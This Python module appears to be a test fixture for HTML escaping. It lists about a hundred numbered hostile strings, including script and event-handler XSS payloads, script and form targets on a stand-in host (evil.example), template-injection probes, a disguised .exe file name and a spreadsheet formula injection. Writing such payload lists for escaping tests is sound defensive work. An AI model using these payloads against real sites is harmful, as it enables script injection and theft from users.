"""A hundred texts that would run, or break a page, wherever one of them is not escaped.

Each is short enough for every name, and each is like no other.
"""

from typing import Final

_RUNS: Final = (
    "<script>alert({n})</script>",
    "<ScRiPt>alert({n})</sCrIpT>",
    "<script src=//evil.example/{n}.js></script>",
    "</script><script>alert({n})</script>",
    "</title><script>alert({n})</script>",
    "</textarea><script>alert({n})</script>",
    "</option></select><script>alert({n})</script>",
    "</datalist><img src=x onerror=alert({n})>",
    "</svg><script>alert({n})</script>",
    "<svg onload=alert({n})>",
    "<svg/onload=alert({n})//",
    "<svg><script>alert({n})</script></svg>",
    "<svg><use href=data:image/svg+xml,{n}></svg>",
    "<math><mi xlink:href=javascript:alert({n})>",
    "<img src=x onerror=alert({n})>",
    "<img src=x onerror=\"alert({n})\">",
    "<img/src=x/onerror=alert({n})>",
    "\"><img src=x onerror=alert({n})>",
    "'><img src=x onerror=alert({n})>",
    "\" onfocus=alert({n}) autofocus x=\"",
    "' onmouseover='alert({n})",
    "\" autofocus onfocus=\"alert({n})",
    "\" style=\"animation-name:x\" onanimationstart=\"alert({n})",
    "<iframe src=javascript:alert({n})>",
    "<iframe srcdoc='<script>alert({n})</script>'>",
    "<a href=javascript:alert({n})>why</a>",
    "javascript:alert({n})",
    "data:text/html,<script>alert({n})</script>",
    "<body onload=alert({n})>",
    "<base href=//evil.example/{n}>",
    "<meta http-equiv=refresh content=0;url=//e.x/{n}>",
    "<link rel=stylesheet href=//evil.example/{n}>",
    "<style>*{{display:none}}/*{n}*/</style>",
    "<form action=//evil.example/{n}><button>Save</button>",
    "<input autofocus onfocus=alert({n})>",
    "<details open ontoggle=alert({n})>",
    "<video><source onerror=alert({n})></video>",
    "<object data=javascript:alert({n})>",
    "<embed src=javascript:alert({n})>",
    "<template><script>alert({n})</script></template>",
    "<noscript><p title='</noscript><script>alert({n})</script>'>",
    "<div hx-get=/theme hx-trigger=load>{n}</div>",
    "\" hx-get=\"/theme\" hx-trigger=\"load\" x=\"{n}",
    "<div hx-on::load=alert({n})>",
    "<p data-live data-nights=/theme>{n}</p>",
)  # fmt: skip
_BREAKS: Final = (
    "{{{{ {n} }}}}", "{{% debug %}} {n}", "${{alert({n})}}", "#{{{n}}}", "<%= {n} %>",
    "&lt;script&gt;alert({n})&lt;/script&gt;", "&#60;script&#62;{n}", "&amp;amp;{n}",
    "%3Cscript%3E{n}",
    "\\u003cscript\\u003e{n}", "\\x3cscript\\x3e{n}", "<!-- {n}", "--> {n}", "--!> {n}",
    "<![CDATA[ {n}", "]]> {n}", "<?xml version='1.0'?>{n}", "<!DOCTYPE {n} [", "< script >{n}",
    "<scr<script>ipt>{n}", "\u202e{n} gpj.exe", "\u200b<b>{n}", "\ufeff<i>{n}",
    "\uff1cscript\uff1e{n}",
    "\u2028alert({n})", "'{n}", "\"{n}", "`{n}`", "\\{n}", "\\\"{n}", "//{n}", "/../{n}",
    "?{n}=&#x27;",
    "#{n}<b>", ";{n}//", "*/{n}/*", "=cmd|{n}", "@import '{n}'", "expression({n})", "url({n})",
    "\u0130<i\u0131>{n}", "<b>{n}", "</b>{n}", "<b {n}", "<table><tr>{n}",
    "</table></div></main>{n}",
    "</body></html>{n}", "<h1>{n}</h1>", "<plaintext>{n}", "<xmp>{n}", "<marquee>{n}",
    "<select><option>{n}", "<textarea>{n}", "<title>{n}", "<frameset>{n}",
)  # fmt: skip
HOSTILE: Final = tuple(
    text.format(n=number) for number, text in enumerate((*_RUNS, *_BREAKS), start=1)
)
